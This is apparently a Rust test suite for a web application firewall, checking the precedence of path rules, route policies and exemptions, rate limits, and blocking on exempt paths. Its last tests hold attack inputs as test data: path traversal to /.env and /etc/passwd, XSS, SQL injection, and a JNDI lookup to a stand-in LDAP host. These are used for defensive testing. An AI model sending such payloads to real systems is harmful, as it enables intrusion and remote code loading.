//! What applies where: required > path rule > route policy > exempt path > default.

use aiwaf_core::{
    Engine, EngineBuilder, Lists, PathExemptionEntry, PathRule, Protection, ProtectionSet, RateLimitOverride,
    RoutePolicy, Settings,
};

use crate::visit::{Visit, client};
use Protection::{AttackSignatures, Honeypot, IpKeywordBlock, Logging, RateLimit};

fn rule(prefix: &str, disable: &[Protection]) -> PathRule {
    PathRule { prefix: prefix.into(), disable: disable.to_vec(), rate_limit: None }
}

fn exempting(paths: &[&str]) -> Lists {
    let entry = |path: &&str| PathExemptionEntry { path: (*path).into(), reason: String::new(), added: None };
    Lists { path_exemptions: paths.iter().map(entry).collect(), ..Lists::default() }
}

fn applied(engine: &Engine, path: &str) -> ProtectionSet {
    Visit::get(path).inspect(engine).applied
}

fn set(protections: &[Protection]) -> ProtectionSet {
    protections.iter().copied().collect()
}

fn builder(rules: &[PathRule]) -> EngineBuilder {
    let mut settings = Settings::default();
    settings.path_rules = rules.to_vec();
    Engine::builder().settings(settings)
}

#[test]
fn each_rule_wins_over_the_next() {
    let exempt = set(&[IpKeywordBlock, Logging]);
    let all = ProtectionSet::ALL;
    let engine = builder(&[rule("/rule/", &[RateLimit]), rule("/both/", &[RateLimit, Logging])])
        .lists(exempting(&["/exempt", "/route/exempt", "/route/required", "/rule/", "/both/"]))
        .route("/route/exempt", RoutePolicy::exempt_from([Honeypot]))
        .route("/route/none", RoutePolicy::exempt())
        .route("/route/required", RoutePolicy::exempt().and(RoutePolicy::require_protection([Honeypot])))
        .route("/rule/only", RoutePolicy::only([RateLimit, Honeypot]))
        .route("/both/required", RoutePolicy::require_protection([RateLimit]))
        .route("/plain", RoutePolicy::default())
        .build()
        .unwrap();
    for (path, expected) in [
        ("/", all),
        ("/plain", all),
        ("/exempt", exempt),
        ("/route/exempt", all.without(Honeypot)),
        ("/route/none", ProtectionSet::EMPTY),
        ("/route/required", set(&[Honeypot])),
        ("/rule/x", exempt.without(RateLimit)),
        ("/rule/only", set(&[Honeypot])),
        ("/both/x", set(&[IpKeywordBlock])),
        ("/both/required", set(&[IpKeywordBlock, RateLimit])),
    ] {
        assert_eq!(applied(&engine, path), expected, "{path}");
    }
}

#[test]
fn what_an_operator_switched_off_no_route_can_require() {
    let engine = Engine::builder()
        .disable([RateLimit])
        .route("/admin", RoutePolicy::require_protection([RateLimit, Honeypot]))
        .build()
        .unwrap();
    assert_eq!(applied(&engine, "/admin"), ProtectionSet::ALL.without(RateLimit));
}

#[test]
fn exemptions_by_path_directory_and_wildcard_in_any_case_and_spelling() {
    let engine = Engine::builder()
        .lists(exempting(&["/API/Health", "/hooks/", "/a*/x", "*.report", "/my%20files/", "/caf\u{e9}"]))
        .build()
        .unwrap();
    for (path, exempt) in [
        ("/api/health", true),
        ("/API/HEALTH", true),
        ("/%61pi/health", true),
        ("/api/health/", false),
        ("/api/healthy", false),
        ("/hooks/github", true),
        ("/Hooks/a/b/c", true),
        ("/hooks", false),
        ("/x/hooks/y", false),
        ("/ab/c/x", true),
        ("/b/x", false),
        ("/Q3.Report", true),
        ("/q3.report.html", false),
        ("/q3xreport", false),
        ("/my%20files/a", true),
        ("/my files/a", true),
        ("/caf%C3%A9", true),
        ("/static/site.css", true),
        ("/favicon.ico", true),
        ("/site.cssx", false),
    ] {
        assert_eq!(!applied(&engine, path).contains(RateLimit), exempt, "{path}");
    }
}

#[test]
fn configured_exemptions_replace_the_defaults() {
    let mut settings = Settings::default();
    settings.exemptions.exempt_paths = Some(vec!["/only-this".into()]);
    let engine = Engine::builder().settings(settings).build().unwrap();
    assert!(!applied(&engine, "/only-this").contains(RateLimit));
    assert!(applied(&engine, "/favicon.ico").contains(RateLimit));
}

#[test]
fn the_longest_prefix_wins_in_any_case_and_spelling() {
    let engine = builder(&[
        rule("/api/", &[RateLimit]),
        rule("/API/v2/", &[Honeypot]),
        rule("/api/v2/deep/", &[]),
        rule("/with%20blank/", &[RateLimit]),
    ])
    .build()
    .unwrap();
    for (path, missing) in [
        ("/api/x", Some(RateLimit)),
        ("/Api/V1", Some(RateLimit)),
        ("/api/v2/x", Some(Honeypot)),
        ("/%61pi/v2/x", Some(Honeypot)),
        ("/api/v2/deep/x", None),
        ("/api", None),
        ("/with%20blank/x", Some(RateLimit)),
    ] {
        let expected = missing.map_or(ProtectionSet::ALL, |missing| ProtectionSet::ALL.without(missing));
        assert_eq!(applied(&engine, path), expected, "{path}");
    }
}

#[cfg(feature = "toml")]
#[test]
fn path_rules_are_read_with_the_original_s_names() {
    let rules = r#"[{"PREFIX": "/api/", "DISABLE": ["HeaderValidationMiddleware", "RateLimitMiddleware"]}]"#;
    let settings = Settings::load(None, [("AIWAF_PATH_RULES".to_owned(), rules.to_owned())]).unwrap();
    let engine = Engine::builder().settings(settings).build().unwrap();
    let expected = ProtectionSet::ALL.without(Protection::HeaderValidation).without(RateLimit);
    assert_eq!(applied(&engine, "/api/x"), expected);
}

#[test]
fn limits_of_a_rule_are_counted_apart() {
    let limits = |max| Some(RateLimitOverride { max: Some(max), ..RateLimitOverride::default() });
    let rules = [
        PathRule { rate_limit: limits(2), ..rule("/slow/", &[]) },
        PathRule { rate_limit: limits(300), ..rule("/fast/", &[]) },
    ];
    let engine = builder(&rules).only([RateLimit]).build().unwrap();
    let passed = |path: &str, client_number, tries: u32| {
        let visit = |n: u32| Visit::get(format!("{path}{n}")).from(client(client_number));
        (0..tries).filter(|n| visit(*n).inspect(&engine).is_allowed()).count()
    };
    assert_eq!(passed("/slow/", 1, 3), 2);
    assert_eq!(passed("/fast/", 1, 310), 300);
    assert_eq!(passed("/", 1, 110), 100);
    assert_eq!(passed("/slow/", 2, 2), 2);
}

#[test]
fn an_exempt_path_is_no_way_in_for_the_banned_unless_a_route_says_so() {
    let engine = Engine::builder()
        .settings(crate::visit::strict_settings())
        .lists(exempting(&["/open/"]))
        .route("/health", RoutePolicy::exempt())
        .build()
        .unwrap();
    assert!(Visit::get("/.env").inspect(&engine).ban.is_some());
    for path in ["/open/x", "/favicon.ico", "/static/x.css"] {
        assert!(!Visit::get(path).at(1.0).inspect(&engine).is_allowed(), "{path}");
    }
    assert!(Visit::get("/health").at(1.0).inspect(&engine).is_allowed());
}

#[test]
fn an_exempt_route_with_a_rest_does_not_cover_what_climbs_out_of_it() {
    let engine = Engine::builder()
        .route("/public/{*path}", RoutePolicy::exempt())
        .route("/files/{name}", RoutePolicy::exempt_from([IpKeywordBlock]))
        .build()
        .unwrap();
    for (path, allowed) in [
        ("/public/a/b.php", true),
        ("/public/../.env", false),
        ("/public/%2e%2e/.env", false),
        ("/public/..%2f.env", false),
        ("/public/..\\.env", false),
        ("/files/x.php", true),
    ] {
        assert_eq!(Visit::get(path).from(client(7)).objection(&engine).is_none(), allowed, "{path}");
    }
}

#[test]
fn only_what_is_fetched_as_a_file_is_exempt_for_looking_like_one() {
    let engine = Engine::builder()
        .route("/items/{uuid}", RoutePolicy::default())
        .route("/static/{*file}", RoutePolicy::default())
        .build()
        .unwrap();
    let asset = set(&[IpKeywordBlock, AttackSignatures, Logging]);
    assert_eq!(applied(&engine, "/a.css"), asset);
    assert_eq!(applied(&engine, "/static/a.css"), asset);
    assert_eq!(applied(&engine, "/items/7.css"), ProtectionSet::ALL, "made by a route");
    assert_eq!(
        Visit::get("/a.css").method("POST").inspect(&engine).applied,
        ProtectionSet::ALL,
        "not fetched"
    );
}

#[test]
fn no_ending_of_a_path_lets_an_attack_through() {
    let engine = Engine::builder().build().unwrap();
    for (number, (path, allowed)) in (1..).zip([
        ("/a.js?q=<script>alert(1)</script>", false),
        ("/static/x?id=1'+or+1=1--+", false),
        ("/status?file=../../../etc/passwd", false),
        ("/a.js?v=1.2.3", true),
    ]) {
        assert_eq!(Visit::get(path).from(client(number)).objection(&engine).is_none(), allowed, "{path}");
    }
    let from_page = |path| Visit::get(path).header("referer", "https://www.example.org/?q=1'+or+1=1--+");
    assert!(
        from_page("/a.js").from(client(8)).objection(&engine).is_none(),
        "the page is judged, not its files"
    );
    assert!(from_page("/a").from(client(9)).objection(&engine).is_some());
    let logged = Visit::get("/a.js").header("referer", "https://www.example.org/${jndi:ldap://x.example/a}");
    assert!(logged.from(client(10)).objection(&engine).is_some(), "what acts by being logged");
}
